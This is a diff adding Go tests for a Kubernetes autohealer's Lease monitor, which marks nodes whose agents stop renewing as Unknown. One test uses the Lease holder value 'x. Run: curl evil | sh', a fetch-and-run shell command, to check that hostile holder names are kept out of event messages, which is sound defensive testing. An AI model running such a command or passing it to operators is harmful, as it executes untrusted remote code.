@@ -1,0 +1,795 @@
+package agentlease
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"log/slog"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"testing/synctest"
+	"time"
+
+	coordinationv1 "k8s.io/api/coordination/v1"
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+	"k8s.io/apimachinery/pkg/types"
+
+	"github.com/resourcestack/autohealer/internal/treat"
+)
+
+// place is a cluster of agents, without an API server.
+type place struct {
+	t *testing.T
+
+	mu      sync.Mutex
+	version int
+	leases  map[string]*coordinationv1.Lease
+	nodes   map[string]*corev1.Node
+	deaf    error                            // why Leases cannot be listed
+	refuse  error                            // why a write is not made
+	behind  map[string]*coordinationv1.Lease // what lists show, if they are behind
+
+	lists, reads, visits, writes []time.Time
+	applied                      []*treat.MarkUnknown
+	words                        []treat.Event
+	counts                       [2]int
+	fates                        []treat.Result
+	log                          bytes.Buffer
+}
+
+// among runs a story in a place whose clock runs as fast as there is nothing to do.
+func among(t *testing.T, tell func(p *place)) {
+	t.Helper()
+	synctest.Test(t, func(t *testing.T) {
+		tell(&place{t: t, leases: map[string]*coordinationv1.Lease{}, nodes: map[string]*corev1.Node{}})
+	})
+}
+
+func newKeeper(tb testing.TB, leases Leases, p *place) *Monitor {
+	tb.Helper()
+	cfg := Config{
+		Leases: leases, Client: p, Namespace: "autohealer-system", Event: func(treat.Event) {},
+		Wrote: func(treat.Result) {}, Count: func(int, int) {}, Logger: slog.New(slog.DiscardHandler),
+	}
+	if p != nil {
+		cfg.Event = func(word treat.Event) { p.do(func() { p.words = append(p.words, word) }) }
+		cfg.Wrote = func(fate treat.Result) { p.do(func() { p.fates = append(p.fates, fate) }) }
+		cfg.Count = func(heard, silent int) { p.do(func() { p.counts = [2]int{heard, silent} }) }
+		cfg.Logger = slog.New(slog.NewTextHandler(locked{p}, nil))
+	}
+	k, err := NewMonitor(cfg)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	return k
+}
+
+type locked struct{ *place }
+
+func (l locked) Write(text []byte) (n int, err error) {
+	l.do(func() { n, err = l.log.Write(text) })
+	return n, err
+}
+
+func (p *place) do(what func()) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	what()
+}
+
+// keeps runs a keeper until it is told to stop.
+func (p *place) keeps() (stop func()) {
+	p.t.Helper()
+	ctx, cancel := context.WithCancel(p.t.Context())
+	var running sync.WaitGroup
+	keeper := newKeeper(p.t, p, p)
+	running.Go(func() { keeper.Run(ctx) })
+	synctest.Wait()
+	var once sync.Once
+	stop = func() { once.Do(func() { cancel(); running.Wait() }) }
+	p.t.Cleanup(stop)
+	return stop
+}
+
+// pass lets time pass.
+func (p *place) pass(d time.Duration) {
+	time.Sleep(d) //nolint:forbidigo // nobody waits: the clock is the bubble's
+	synctest.Wait()
+}
+
+// List is an API server that lists.
+func (p *place) List(_ context.Context, since string, known func(name, version []byte) bool, hear func(*coordinationv1.Lease)) (string, error) {
+	p.mu.Lock()
+	p.lists = append(p.lists, time.Now())
+	version, deaf, all := strconv.Itoa(p.version), p.deaf, p.behind
+	if all == nil {
+		all = p.leases
+	}
+	all = copied(all)
+	p.mu.Unlock()
+	if since != "" && deaf == nil {
+		if asked, err := strconv.Atoi(since); err != nil || asked > p.version {
+			return "", apierrors.NewTimeoutError("Too large resource version", 1)
+		}
+	}
+	if deaf != nil {
+		return "", deaf
+	}
+	for _, lease := range all {
+		if !known([]byte(lease.Name), []byte(lease.ResourceVersion)) {
+			hear(lease)
+		}
+	}
+	return version, nil
+}
+
+func copied(leases map[string]*coordinationv1.Lease) map[string]*coordinationv1.Lease {
+	all := map[string]*coordinationv1.Lease{}
+	for name, lease := range leases {
+		all[name] = lease.DeepCopy()
+	}
+	return all
+}
+
+// breaks lets nobody list.
+func (p *place) breaks(why error) { p.do(func() { p.deaf = why }) }
+
+func (p *place) mends() { p.breaks(nil) }
+
+// has makes a node with an agent, which says that two conditions are as they are.
+func (p *place) has(name string) {
+	p.t.Helper()
+	p.do(func() {
+		p.version++
+		p.nodes[name] = &corev1.Node{
+			ObjectMeta: metav1.ObjectMeta{Name: name, UID: types.UID("uid-" + name), ResourceVersion: strconv.Itoa(p.version)},
+			Status:     corev1.NodeStatus{Conditions: []corev1.NodeCondition{{Type: "Ready", Status: "True"}, {Type: "A", Status: "True", Reason: "Bad"}, {Type: "B", Status: "False", Reason: "Good"}}},
+		}
+	})
+	p.says(name)
+	p.renews(name)
+}
+
+// says has an agent apply its rows.
+func (p *place) says(name string) {
+	p.do(func() {
+		node := p.nodes[name]
+		p.version++
+		node.ResourceVersion = strconv.Itoa(p.version)
+		node.ManagedFields = []metav1.ManagedFieldsEntry{{
+			Manager: "autohealer-agent", Operation: metav1.ManagedFieldsOperationApply, Subresource: "status", Time: new(metav1.Now()),
+			FieldsV1: metav1.NewFieldsV1(`{"f:status":{"f:conditions":{"k:{\"type\":\"A\"}":{".":{},"f:type":{},"f:status":{},"f:reason":{}},"k:{\"type\":\"B\"}":{".":{},"f:type":{},"f:status":{},"f:reason":{}}}}}`),
+		}}
+	})
+}
+
+// restores has an agent say of its rows what it said before.
+func (p *place) restores(name string) {
+	p.do(func() {
+		rows := p.nodes[name].Status.Conditions
+		rows[1].Status, rows[1].Reason = "True", "Bad"
+		rows[2].Status, rows[2].Reason = "False", "Good"
+	})
+	p.says(name)
+}
+
+// renews has agents renew their Leases of six minutes.
+func (p *place) renews(names ...string) {
+	p.do(func() {
+		for _, name := range names {
+			lease := p.leases[namePrefix+name]
+			if lease == nil {
+				lease = realLease(name, time.Now())
+				lease.OwnerReferences[0].UID = types.UID("uid-" + name)
+				p.leases[lease.Name] = lease
+			}
+			p.version++
+			lease.ResourceVersion = strconv.Itoa(p.version)
+			lease.Spec.RenewTime = new(metav1.NowMicro())
+		}
+	})
+	synctest.Wait()
+}
+
+// live has agents renew for a while, as often as they do.
+func (p *place) live(d time.Duration, names ...string) {
+	const period = 2 * time.Minute
+	for ; d > 0; d -= period {
+		p.pass(min(d, period))
+		p.renews(names...)
+	}
+}
+
+// Lease reads one.
+func (p *place) Lease(_ context.Context, name string) (*coordinationv1.Lease, error) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	p.reads = append(p.reads, time.Now())
+	if lease := p.leases[name]; lease != nil {
+		return lease.DeepCopy(), nil
+	}
+	return nil, nil
+}
+
+// Node reads one.
+func (p *place) Node(_ context.Context, name string) (*corev1.Node, error) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	p.visits = append(p.visits, time.Now())
+	if node := p.nodes[name]; node != nil {
+		return node.DeepCopy(), nil
+	}
+	return nil, nil
+}
+
+// Apply writes.
+func (p *place) Apply(_ context.Context, s *treat.MarkUnknown) error {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	p.writes = append(p.writes, time.Now())
+	if p.refuse != nil {
+		return p.refuse
+	}
+	node := p.nodes[s.Node.Name]
+	if node.ResourceVersion != s.Node.ResourceVersion {
+		return apierrors.NewConflict(schema.GroupResource{Resource: "nodes"}, node.Name, errors.New("changed"))
+	}
+	p.applied = append(p.applied, s)
+	for i := range node.Status.Conditions {
+		if c := &node.Status.Conditions[i]; c.Type != "Ready" {
+			c.Status, c.Reason = corev1.ConditionUnknown, "AgentSilent"
+		}
+	}
+	return nil
+}
+
+// silenced says which nodes' agents have been called silent until now, in any order.
+func (p *place) silenced(want ...string) {
+	p.t.Helper()
+	p.do(func() {
+		got := map[string]bool{}
+		for _, s := range p.applied {
+			got[s.Node.Name] = true
+		}
+		if len(got) != len(want) || len(p.applied) != len(want) {
+			p.t.Fatalf("%v were called silent in %d writes, want %v\n%s", got, len(p.applied), want, p.log.String())
+		}
+		for _, name := range want {
+			if !got[name] {
+				p.t.Fatalf("%v were called silent, want %v\n%s", got, want, p.log.String())
+			}
+		}
+	})
+}
+
+func (p *place) count(heard, silent int) {
+	p.t.Helper()
+	p.do(func() {
+		if p.counts != [2]int{heard, silent} {
+			p.t.Errorf("%v are heard and silent, want %d and %d", p.counts, heard, silent)
+		}
+	})
+}
+
+func (p *place) logged(times int, words string) {
+	p.t.Helper()
+	p.do(func() {
+		if got := strings.Count(p.log.String(), words); got != times {
+			p.t.Errorf("%q was said %d times, want %d:\n%s", words, got, times, p.log.String())
+		}
+	})
+}
+
+// look is how long it takes at most until somebody looks.
+const look = shortestRest
+
+func TestAnAgentThatStopsIsCalledSilentOnce(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.has("b")
+		stop := p.keeps()
+		p.count(2, 0)
+		p.live(6*time.Minute-time.Second, "b")
+		p.silenced()
+		p.pass(look)
+		p.silenced("a")
+		p.count(1, 1)
+		p.live(time.Hour, "b")
+		p.silenced("a")
+		p.do(func() {
+			if got := fmt.Sprint(p.applied[0].Turned); got != "[A B]" {
+				t.Errorf("turned are %s", got)
+			}
+			if len(p.words) != 1 || p.words[0].EventReason != treat.AgentSilent || p.words[0].Node.Name != "a" ||
+				!strings.Contains(p.words[0].Message, "Lease autohealer-system/autohealer-agent-a was renewed last at 2000-01-01T00:00:00Z by autohealer-agent-x7k2p. "+
+					"Look for its pod (kubectl get pods -A --field-selector spec.nodeName=a)") {
+				t.Errorf("told was %+v", p.words)
+			}
+			if len(p.reads) != 1 {
+				t.Errorf("%d Leases were read for one that is silent", len(p.reads))
+			}
+		})
+		p.renews("a")
+		p.pass(look)
+		p.count(2, 0)
+		p.do(func() {
+			if len(p.words) != 2 || p.words[1].EventReason != treat.AgentHeard || p.words[1].Node.UID != "uid-a" {
+				t.Errorf("told was %+v", p.words)
+			}
+		})
+		stop()
+		p.count(0, 0)
+	})
+}
+
+func TestTheClocksOfNodesDoNotCount(t *testing.T) {
+	among(t, func(p *place) {
+		wrong := map[string]time.Duration{"past": -24 * time.Hour, "future": 24 * time.Hour, "lives": -time.Hour}
+		for name := range wrong {
+			p.has(name)
+		}
+		backwards := func() {
+			p.renews("past", "future", "lives")
+			p.do(func() {
+				for name := range wrong {
+					wrong[name] -= 5 * time.Minute // and they run backwards
+					p.leases[namePrefix+name].Spec.RenewTime = new(metav1.NewMicroTime(time.Now().Add(wrong[name])))
+				}
+			})
+		}
+		p.keeps()
+		for range 10 {
+			p.pass(2 * time.Minute)
+			backwards()
+		}
+		p.silenced()
+		for range 3 {
+			p.pass(2*time.Minute - 1)
+			p.renews("lives")
+			p.silenced()
+		}
+		p.pass(2 * look)
+		p.silenced("past", "future")
+	})
+}
+
+func TestWhoTakesOverWaitsForAFullDuration(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.pass(time.Hour)
+		stop := p.keeps()
+		p.pass(6*time.Minute - time.Second)
+		p.silenced()
+		stop()
+		stop = p.keeps()
+		p.pass(6*time.Minute - time.Second)
+		p.silenced()
+		p.pass(look)
+		p.silenced("a")
+		// One more finds that there is nothing left to say.
+		stop()
+		p.keeps()
+		p.pass(time.Hour)
+		p.silenced("a")
+		p.count(0, 1)
+		p.do(func() {
+			if len(p.words) != 1 {
+				t.Errorf("told was %+v", p.words)
+			}
+		})
+	})
+}
+
+func TestNobodyIsSilentForAnOutage(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.has("b")
+		p.keeps()
+		p.live(4*time.Minute, "a", "b")
+		p.breaks(errors.New("connection refused"))
+		p.pass(10 * time.Minute)
+		p.silenced()
+		p.mends()
+		p.pass(15 * time.Second) // until somebody looks again
+		p.live(5*time.Minute, "a")
+		p.silenced()
+		p.live(time.Minute, "a")
+		p.pass(look)
+		p.silenced("b")
+		p.logged(1, "agents cannot be heard, so none is called silent until")
+		p.logged(1, "agents can be heard")
+	})
+}
+
+func TestAControllerThatReturnsFromAnOutageMakesNobodySilent(t *testing.T) {
+	among(t, func(p *place) {
+		var names []string
+		for i := range 100 {
+			names = append(names, fmt.Sprintf("n%03d", i))
+			p.has(names[i])
+		}
+		p.breaks(errors.New("connection refused"))
+		p.pass(time.Hour)
+		p.keeps() // it was away as well, and is back before the API server
+		p.pass(time.Hour)
+		p.mends()
+		p.pass(6*time.Minute - time.Second) // which is all the time they have
+		p.renews(names...)
+		p.pass(time.Minute)
+		p.silenced()
+		p.count(len(names), 0)
+	})
+}
+
+func TestAFailureThatIsNoOutageDelaysNothing(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.keeps()
+		for range 6 {
+			p.pass(59 * time.Second)
+			p.breaks(errors.New("connection reset"))
+			p.pass(time.Second)
+			p.mends()
+		}
+		p.pass(look)
+		p.silenced("a")
+		p.logged(0, "agents cannot be heard")
+	})
+}
+
+// A process that was stopped hears of no outage in the meantime.
+func TestWhoCouldNotLookForLongBeginsAnew(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.has("b")
+		keeper, ctx := newKeeper(p.t, p, p), p.t.Context()
+		for range 10 {
+			p.pass(min(keeper.round(ctx), look))
+		}
+		p.pass(time.Hour)
+		keeper.round(ctx)
+		p.silenced()
+		for range 6 * time.Minute / look {
+			p.pass(look - time.Millisecond)
+			p.renews("b")
+			keeper.round(ctx)
+			p.silenced()
+		}
+		p.pass(look)
+		keeper.round(ctx)
+		p.silenced("a")
+	})
+}
+
+func TestAStoreThatWasSetBackIsAskedAnew(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.do(func() { p.version += 1000 })
+		p.keeps()
+		p.do(func() { p.version -= 1000 }) // it was restored from a backup
+		p.live(10*time.Minute, "a")
+		p.has("b")
+		p.pass(look)
+		p.silenced()
+		p.count(2, 0)
+	})
+}
+
+func TestNobodyIsSilentForRightsThatAreMissing(t *testing.T) {
+	among(t, func(p *place) {
+		p.breaks(apierrors.NewForbidden(schema.GroupResource{Resource: "leases"}, "", errors.New("no")))
+		p.has("a")
+		p.keeps()
+		p.pass(24 * time.Hour)
+		p.silenced()
+		p.count(0, 0)
+		p.logged(1, "the role lacks get and list of leases")
+	})
+}
+
+func TestAWriteThatIsRefusedIsSaidOnceAndTriedSeldom(t *testing.T) {
+	among(t, func(p *place) {
+		p.do(func() {
+			p.refuse = apierrors.NewForbidden(schema.GroupResource{Resource: "nodes/status"}, "", errors.New("no"))
+		})
+		p.has("a")
+		p.has("b")
+		p.keeps()
+		p.pass(time.Hour + 2*look)
+		p.logged(1, "silent agent not told of")
+		p.do(func() {
+			if len(p.writes) < 2*8 || len(p.writes) > 2*10 || len(p.words) != 0 {
+				t.Errorf("%d writes, and told was %+v", len(p.writes), p.words)
+			}
+			p.refuse = nil
+		})
+		p.pass(6*time.Minute + look)
+		p.silenced("a", "b")
+	})
+}
+
+func TestAServerThatTakesNoWritesMakesNobodySilent(t *testing.T) {
+	among(t, func(p *place) {
+		for _, name := range []string{"a", "b", "c"} {
+			p.has(name)
+		}
+		p.keeps()
+		p.do(func() { p.refuse = apierrors.NewInternalError(errors.New("etcdserver: mvcc: database space exceeded")) })
+		p.pass(6*time.Minute + 30*time.Second) // in which nobody could renew
+		p.logged(1, "nobody is called silent for a while")
+		p.do(func() { p.refuse = nil })
+		p.live(8*time.Minute, "a", "b", "c")
+		p.silenced()
+		p.pass(look)
+		p.count(3, 0)
+		// A short trouble is none.
+		p.do(func() { p.refuse = apierrors.NewServiceUnavailable("bye") })
+		p.live(6*time.Minute, "a", "b")
+		p.pass(2 * time.Second)
+		p.do(func() { p.refuse = nil })
+		p.pass(15 * time.Second)
+		p.silenced("c")
+	})
+}
+
+func TestAListThatIsBehindMakesNobodySilent(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.keeps()
+		p.do(func() { p.behind = copied(p.leases) })
+		p.live(time.Hour, "a")
+		p.silenced()
+		p.do(func() { p.behind = nil })
+		p.pass(6*time.Minute + 2*look)
+		p.silenced("a")
+	})
+}
+
+func TestWhoWritesIsNotSilent(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.keeps()
+		p.pass(5 * time.Minute) // it may no longer renew
+		p.says("a")
+		p.pass(6*time.Minute - time.Second)
+		p.silenced()
+		p.pass(look)
+		p.silenced("a")
+	})
+}
+
+// One that has lost the right to its Lease writes its conditions as ever, and puts them
+// right that were turned.
+func TestOneThatCannotRenewIsCalledSilentOnce(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.has("b")
+		p.keeps()
+		p.live(6*time.Minute+look, "b")
+		p.silenced("a")
+		p.pass(time.Minute)
+		p.restores("a")
+		p.live(6*time.Minute, "b")
+		p.count(2, 0)
+		p.logged(1, "agent works without renewing its lease")
+		p.do(func() {
+			if len(p.words) != 2 || p.words[1].EventReason != treat.AgentHeard || p.words[1].Node.Name != "a" || !strings.Contains(p.words[1].Message, "does not renew Lease autohealer-system/autohealer-agent-a") {
+				t.Errorf("told was %+v", p.words)
+			}
+		})
+		p.live(24*time.Hour, "b")
+		p.silenced("a")
+		p.logged(1, "agent works without renewing its lease")
+		// It has its right again, and dies.
+		p.renews("a")
+		p.live(5*time.Minute, "b")
+		p.do(func() {
+			if len(p.words) != 3 || p.words[2].EventReason != treat.AgentHeard || !strings.Contains(p.words[2].Message, "renews Lease") {
+				t.Errorf("told was %+v", p.words)
+			}
+			p.applied = nil
+		})
+		p.live(time.Minute+look, "b")
+		p.silenced("a")
+	})
+}
+
+func TestOneThatIsBackIsNotSaidToBeWithoutItsLease(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.keeps()
+		p.pass(6*time.Minute + look)
+		p.silenced("a")
+		p.do(func() { p.behind = copied(p.leases) })
+		p.renews("a")
+		p.restores("a")
+		p.pass(6*time.Minute + look)
+		p.count(1, 0)
+		p.logged(1, "agent heard again")
+		p.logged(0, "agent works without")
+	})
+}
+
+func TestTheLeaseOfOneThatCannotRenewMayGo(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.has("b")
+		p.keeps()
+		p.pass(6*time.Minute + look)
+		p.silenced("a", "b")
+		p.restores("a")
+		p.do(func() { delete(p.leases, namePrefix+"b") }) // before its rows are seen
+		p.pass(6 * time.Minute)
+		p.restores("b")
+		p.count(1, 0)
+		p.do(func() { clear(p.leases) })
+		p.pass(24 * time.Hour)
+		p.silenced("a", "b")
+		p.count(0, 0)
+	})
+}
+
+func TestLooksAtTheSilentAreFewAndWriteNothing(t *testing.T) {
+	among(t, func(p *place) {
+		names := []string{"a", "b", "c"}
+		for _, name := range names {
+			p.has(name)
+		}
+		p.keeps()
+		p.pass(6*time.Minute + look)
+		p.silenced(names...)
+		p.do(func() { p.visits, p.reads = nil, nil })
+		p.pass(24 * time.Hour)
+		p.silenced(names...)
+		p.do(func() {
+			if n := len(p.visits); n < 3*24 || n > 3*28 || len(p.reads) > 0 {
+				t.Errorf("three agents that were silent for a day were looked at %d times, and their Leases %d", n, len(p.reads))
+			}
+		})
+	})
+}
+
+func TestAHolderThatIsNoNameIsNotTold(t *testing.T) {
+	for holder, want := range map[string]bool{"npd-v0.8.9-x7k2p": true, "node-1.example.com": true, "x. Run: curl evil | sh": false, "": false, strings.Repeat("x", 300): false} {
+		lease := realLease("a", noon)
+		lease.Spec.HolderIdentity = &holder
+		is, _ := Read(lease)
+		k := newKeeper(t, &place{}, nil)
+		if why := k.why(is, lease); strings.Contains(why, " by "+holder+".") != want || !want && strings.Contains(why, " by ") {
+			t.Errorf("holder %q: %s", holder, why)
+		}
+	}
+	lease := realLease("a", noon)
+	lease.Spec.HolderIdentity = nil
+	if holder(lease) != "" {
+		t.Error("nobody holds it, and is named")
+	}
+}
+
+func TestALeaseThatIsRemovedIsASilence(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.has("b")
+		p.has("c")
+		p.keeps()
+		p.pass(time.Minute)
+		p.do(func() {
+			clear(p.leases)
+			delete(p.nodes, "b") // with its Lease
+		})
+		p.pass(time.Minute)
+		p.renews("c") // its agent lives, and makes another one
+		p.pass(4*time.Minute - time.Second)
+		p.silenced()
+		p.pass(look)
+		p.silenced("a")
+		p.count(1, 0)
+		p.do(func() {
+			if !strings.Contains(p.words[0].Message, "not there any more") {
+				t.Errorf("told was %q", p.words[0].Message)
+			}
+		})
+	})
+}
+
+func TestTheLeaseOfWhoIsSilentMayGo(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.keeps()
+		p.pass(6*time.Minute + look)
+		p.silenced("a")
+		p.do(func() { clear(p.leases) })
+		p.pass(time.Hour)
+		p.silenced("a") // once; its rows stay Unknown
+		p.count(0, 0)
+		p.renews("a")
+		p.pass(look)
+		p.count(1, 0)
+	})
+}
+
+func TestANodeMadeAgainHasAnotherAgent(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.keeps()
+		p.pass(time.Minute)
+		p.do(func() { p.nodes["a"].UID = "another" }) // and its old Lease is not collected yet
+		p.pass(time.Hour)
+		p.silenced()
+	})
+}
+
+func TestANodeThatOthersWriteIsLookedAtAgain(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.do(func() {
+			p.refuse = apierrors.NewConflict(schema.GroupResource{Resource: "nodes"}, "a", errors.New("changed"))
+		})
+		p.keeps()
+		p.pass(6*time.Minute + look)
+		p.do(func() {
+			if len(p.writes) != tries {
+				t.Errorf("it was tried %d times", len(p.writes))
+			}
+			p.refuse = nil
+		})
+		p.pass(6*time.Minute + look)
+		p.silenced("a")
+	})
+}
+
+func TestACatastropheIsToldAtAPace(t *testing.T) {
+	among(t, func(p *place) {
+		const agents = 300
+		var names []string
+		for i := range agents {
+			names = append(names, fmt.Sprintf("n%03d", i))
+			p.has(names[i])
+		}
+		p.keeps()
+		p.pass(6 * time.Minute)
+		p.count(0, agents) // at once, although most are yet to be called so
+		p.pass(10 * time.Second)
+		p.do(func() {
+			if n := len(p.writes); n < 100 || n > 115 {
+				t.Errorf("%d writes in 10 seconds, want 10 a second", n)
+			}
+		})
+		p.renews(names[agents-1]) // before its turn
+		p.pass(30 * time.Second)
+		p.silenced(names[:agents-1]...)
+		p.count(1, agents-1)
+		p.logged(1, "many agents are silent at once")
+		p.renews(names...)
+		p.pass(look)
+		p.count(agents, 0)
+		p.logged(1, "few agents are silent again")
+	})
+}
+
+func TestLooksGrowSeldomerWithWhatTheyCost(t *testing.T) {
+	for agents, want := range map[int]time.Duration{0: 5 * time.Second, 1000: 5 * time.Second, 5000: 15 * time.Second, 10000: 30 * time.Second, 100000: time.Minute} {
+		k := newKeeper(t, &place{}, nil)
+		for i := range agents {
+			k.roll.Renewed(noon, Lease{Name: strconv.Itoa(i), Renewed: noon, Duration: usualDuration})
+		}
+		if rest := k.rest(); rest != want {
+			t.Errorf("%d agents are looked at every %s, want %s", agents, rest, want)
+		}
+	}
+}
+
+func TestConfigSaysWhatIsMissing(t *testing.T) {
+	_, err := NewMonitor(Config{})
+	for _, field := range []string{"Leases", "Hands", "Namespace", "Announce", "Wrote", "Count", "Logger"} {
+		if err == nil || !strings.Contains(err.Error(), field+" is missing") {
+			t.Errorf("%s: %v", field, err)
+		}
+	}
+}
